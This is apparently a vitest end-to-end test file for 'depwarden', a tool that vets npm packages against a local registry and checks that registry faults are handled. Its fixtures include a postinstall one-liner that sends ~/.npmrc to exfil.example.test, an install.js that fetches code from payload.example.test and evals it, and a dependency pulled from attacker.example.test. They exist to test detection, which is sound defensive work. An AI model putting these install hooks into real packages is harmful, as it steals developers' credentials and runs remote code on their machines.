import { existsSync, mkdirSync, readdirSync, statSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { depwardenInProcess } from '../support/cli.js';
import { tempDir } from '../support/temp.js';
import { freePort, type Registry } from '../support/registry.mjs';
import { sharedRegistry } from '../support/shared-registry.js';

interface Run {
  status: number | null;
  stdout: string;
  stderr: string;
}

const work = tempDir('registry-e2e');

/** The built CLI, asynchronously: the fault server below lives in this process and must keep answering. */
function depwarden(args: string[], env: Record<string, string> = {}, cwd = work): Promise<Run> {
  return depwardenInProcess(args, { cwd, env: { npm_config_offline: 'false', npm_config_cache: join(work, 'depwarden-cache'), ...env } });
}

function writePackage(name: string, manifest: Record<string, unknown>, files: Record<string, string> = {}): string {
  const dir = join(work, 'packages', `${manifest.name as string}-${manifest.version as string}`);
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, 'package.json'), JSON.stringify({ name, ...manifest }, null, 2));
  for (const [file, text] of Object.entries({ 'index.js': 'module.exports = 1;\n', ...files })) writeFileSync(join(dir, file), text);
  return dir;
}

const findingsOf = (run: Run) =>
  (JSON.parse(run.stdout) as { findings: { rule: string; code: string; severity: string; package: { name: string }; message: string }[] }).findings;
const summary = (run: Run) => findingsOf(run).map((finding) => `${finding.severity} ${finding.code} ${finding.package.name}`);

let registry: Registry;

/** The bytes of every file under `dir` (npm's cache), 0 when it does not exist. */
function cachedBytes(dir: string): number {
  if (!existsSync(dir)) return 0;
  return readdirSync(dir, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .reduce((total, entry) => total + statSync(join(entry.parentPath, entry.name)).size, 0);
}

beforeAll(async () => {
  // dw-plain is one of the run's shared packages (shared-packages.ts).
  registry = sharedRegistry();
  const packages: string[] = [];
  const publish = (manifest: Record<string, unknown>, files?: Record<string, string>) => packages.push(writePackage(manifest.name as string, manifest, files));
  publish({ name: 'dw-native', version: '1.0.0', scripts: { install: 'node-gyp rebuild' } }, { 'binding.gyp': '{ "targets": [] }\n' });
  publish({
    name: 'dw-stealer',
    version: '1.0.0',
    scripts: {
      postinstall: `node -e "require('https').request('https://exfil.example.test/',{method:'POST'}).end(require('fs').readFileSync(require('os').homedir()+'/.npmrc'))"`,
    },
  });
  publish(
    { name: 'dw-dropper', version: '1.0.0', scripts: { postinstall: 'node install.js' } },
    {
      'install.js':
        "require('https').get('https://payload.example.test/x.js', (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => eval(d)); });\n",
    },
  );
  publish({ name: 'dw-phantom', version: '1.0.0', dependencies: { 'dw-payload': 'http://attacker.example.test/dw-payload-1.0.0.tgz' } });
  publish({ name: 'dw-turned', version: '1.0.0', repository: 'github:dw/turned' });
  publish(
    { name: 'dw-turned', version: '2.0.0', scripts: { postinstall: 'node collect.js' }, dependencies: { 'dw-native': '^1.0.0' } },
    { 'collect.js': 'console.log(1);\n' },
  );
  await registry.publishAll(packages);
});

afterAll(async () => {
  await registry?.stop();
});

describe('registry facts against a real local registry (verdaccio)', () => {
  it('vet reads published manifests and scripts before anything is installed', async () => {
    const run = await depwarden(['vet', 'dw-native', 'dw-stealer', 'dw-dropper', 'dw-phantom', 'dw-plain', '--registry', registry.url, '--format', 'json']);
    expect(run.status).toBe(1);
    const found = summary(run).filter((line) => !line.includes('fresh-release') && !line.includes('new-package'));
    expect(found).toEqual([
      'critical manifest-dynamic-dependency dw-phantom',
      'critical install-script dw-stealer',
      'high install-script dw-dropper',
      'medium install-script dw-native',
    ]);
    const findings = findingsOf(run);
    const dropper = findings.find((finding) => finding.package.name === 'dw-dropper' && finding.rule === 'install-script')!;
    expect(dropper.message).toContain('postinstall: node install.js; reads install.js; it downloads code or a binary and runs it');
    expect((dropper as unknown as { details: { signals: unknown[] } }).details.signals).toContainEqual({
      kind: 'download-and-execute',
      file: 'install.js',
      line: 1,
      excerpt: expect.stringContaining('eval(d)'),
      host: 'payload.example.test',
    });
    const stealer = findings.find((finding) => finding.package.name === 'dw-stealer')!;
    expect(stealer.message).toContain('it sends credentials or the environment over the network');
    const phantom = findings.find((finding) => finding.rule === 'manifest-dynamic-dependency')!;
    expect(phantom.message).toContain('"dw-payload": "http://attacker.example.test/dw-payload-1.0.0.tgz"');
  });

  it('every release published just now is fresh, and the package is new', async () => {
    const run = await depwarden(['vet', 'dw-plain', '--registry', registry.url, '--format', 'json', '--fail-on', 'medium']);
    expect(run.status).toBe(1);
    expect(summary(run)).toEqual(['medium fresh-release dw-plain']);
    const relaxed = tempDir('policy');
    writeFileSync(join(relaxed, '.depwardenrc.json'), JSON.stringify({ freshReleaseHours: 0, newPackageDays: 0 }));
    expect(summary(await depwarden(['vet', 'dw-plain', '--registry', registry.url, '--format', 'json'], {}, relaxed))).toEqual([]);
  });

  it('the configured registry decides what exists: a 404 is an unregistered name', async () => {
    const run = await depwarden(['vet', 'dw-never-published', '--registry', registry.url, '--format', 'json']);
    expect(run.status).toBe(1);
    expect(summary(run)).toEqual(['high unregistered-name dw-never-published']);
    expect(findingsOf(run)[0]!.message).toContain('the registry does not have (404)');
  });

  it('check of a lockfile written by npm: install scripts with their text, and a version that turned bad', async () => {
    const project = join(work, 'project');
    mkdirSync(project);
    writeFileSync(
      join(project, 'package.json'),
      JSON.stringify({ name: 'project', version: '1.0.0', dependencies: { 'dw-turned': '^2.0.0', 'dw-plain': '^1.0.0' } }),
    );
    const install = registry.npm(['install', '--package-lock-only', '--ignore-scripts'], { cwd: project });
    expect(install.stderr).not.toMatch(/ERR/);
    const run = await depwarden(['check', project, '--registry', registry.url, '--format', 'json']);
    expect(run.status).toBe(1);
    expect(summary(run).filter((line) => !/fresh-release|new-package/.test(line))).toEqual([
      'high version-drift dw-turned',
      'medium install-script dw-native',
      'medium install-script dw-turned',
    ]);
    const drift = findingsOf(run).find((finding) => finding.rule === 'version-drift')!;
    expect(drift.message).toBe(
      '2.0.0, compared with 1.0.0, adds install scripts (postinstall), adds dependencies (dw-native), dw-native has fewer than 100K downloads/month, is a new package and runs install scripts, drops its repository link',
    );

    // A second run answers from npm's cache; --offline then answers from it alone.
    const offline = await depwarden(['check', project, '--registry', registry.url, '--format', 'json', '--offline']);
    expect(summary(offline)).toEqual(summary(run));
    expect(JSON.parse(offline.stdout).summary.registry).toMatchObject({ asked: 3, answered: 3, notCached: 0, offline: true });
  });
});

describe('registry faults: reported per package, never a crash, the rest still checked', () => {
  let faults: Server;
  let faultUrl: string;
  const project = join(work, 'fault-project');

  beforeAll(async () => {
    const packument = (name: string) => ({
      name,
      'dist-tags': { latest: '1.0.0' },
      versions: { '1.0.0': { name, version: '1.0.0', dist: { tarball: `${faultUrl}${name}/-/${name}-1.0.0.tgz` } } },
      time: { '1.0.0': '2020-01-01T00:00:00.000Z' },
    });
    faults = createServer((request, response) => {
      const name = decodeURIComponent(request.url!.slice(1));
      if (name === 'dw-500') return void response.writeHead(500).end('boom');
      if (name === 'dw-404') return void response.writeHead(404, { 'content-type': 'application/json' }).end('{"error":"not found"}');
      if (name === 'dw-hang') return; // never answers
      if (name === 'dw-truncated') return void response.writeHead(200, { 'content-type': 'application/json' }).end('{"name":"dw-truncated","versions":{"1.0');
      if (name === 'dw-drip' || name === 'dw-giant') {
        // dw-drip: an answer that never ends, one space every 500 ms (it held check for 400 s and more);
        // dw-giant: a body announced at 2 GiB (one was read whole: 4 GB of memory, 2 GB into npm's cache).
        response.writeHead(200, { 'content-type': 'application/json', ...(name === 'dw-giant' ? { 'content-length': String(2 * 1024 ** 3) } : {}) });
        response.write('{"name":');
        const drip = setInterval(() => response.write(' '), 500);
        response.on('close', () => clearInterval(drip));
        return;
      }
      response.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(packument(name)));
    });
    const port = await freePort();
    await new Promise<void>((resolve) => faults.listen(port, '127.0.0.1', resolve));
    faultUrl = `http://127.0.0.1:${port}/`;

    const names = ['dw-500', 'dw-404', 'dw-hang', 'dw-truncated', 'dw-drip', 'dw-giant', 'dw-fine'];
    mkdirSync(project, { recursive: true });
    const dependencies = Object.fromEntries(names.map((name) => [name, '^1.0.0']));
    writeFileSync(join(project, 'package.json'), JSON.stringify({ name: 'fault-project', version: '1.0.0', dependencies }));
    const packages: Record<string, unknown> = { '': { name: 'fault-project', version: '1.0.0', dependencies } };
    for (const name of names) packages[`node_modules/${name}`] = { version: '1.0.0', integrity: 'sha512-AAAA' };
    writeFileSync(join(project, 'package-lock.json'), JSON.stringify({ name: 'fault-project', lockfileVersion: 3, requires: true, packages }, null, 2));
  });

  afterAll(() => {
    faults.closeAllConnections();
    faults.close();
  });

  it('a 500, a 404, a route that never answers, one that never ends, a giant and a truncated packument each fail the check at the default failOn', async () => {
    const cache = join(work, 'fault-cache');
    const run = await depwarden(['check', project, '--registry', faultUrl, '--format', 'json', '--timeout', '3000'], { npm_config_cache: cache });
    expect(run.status).toBe(1); // fail closed: what the registry could not answer for is high
    expect(run.stderr).toBe('');
    const messages = Object.fromEntries(findingsOf(run).map((finding) => [finding.package.name, `${finding.severity} ${finding.message}`]));
    expect(messages).toEqual({
      'dw-404': "high the project's fault-project depends on a name the registry does not have (404): anyone can register it (a hallucinated or removed name)",
      'dw-500': 'high not checked against the registry: the registry answered HTTP 500',
      'dw-hang': 'high not checked against the registry: the registry did not answer in time',
      'dw-truncated': 'high not checked against the registry: the registry sent a packument that is not valid JSON',
      'dw-drip': 'high not checked against the registry: the registry did not answer in time',
      'dw-giant': 'high not checked against the registry: the registry sent too much: the answer is larger than 256 MiB',
    });
    // Nothing of the giant reached npm's cache: its Content-Length was refused before its body was read.
    expect(cachedBytes(cache)).toBeLessThan(1024 * 1024);
  });

  it('a registry that is down: one high finding on the project fails the check, no stack trace; --offline keeps judging from the cache', async () => {
    const closed = `http://127.0.0.1:${await freePort()}/`;
    const run = await depwarden(['check', project, '--registry', closed, '--format', 'json']);
    expect(run.status).toBe(1);
    expect(run.stderr).toBe('');
    expect(findingsOf(run).map((finding) => [finding.severity, finding.package.name, finding.message])).toEqual([
      ['high', 'fault-project', 'not checked against the registry: the registry refused the connection (none of the 7 packages was checked)'],
    ]);
    const text = await depwarden(['check', project, '--registry', closed]);
    expect(text.stdout).toContain('check with --offline from a warm npm cache');
    // --offline is unchanged: a cold cache is counted in the summary, not a finding.
    const offline = await depwarden(['check', project, '--registry', closed, '--offline', '--format', 'json']);
    expect(offline.status).toBe(0);
    expect(JSON.parse(offline.stdout).summary.registry).toMatchObject({ asked: 7, answered: 0, notCached: 7, offline: true });
  });
});
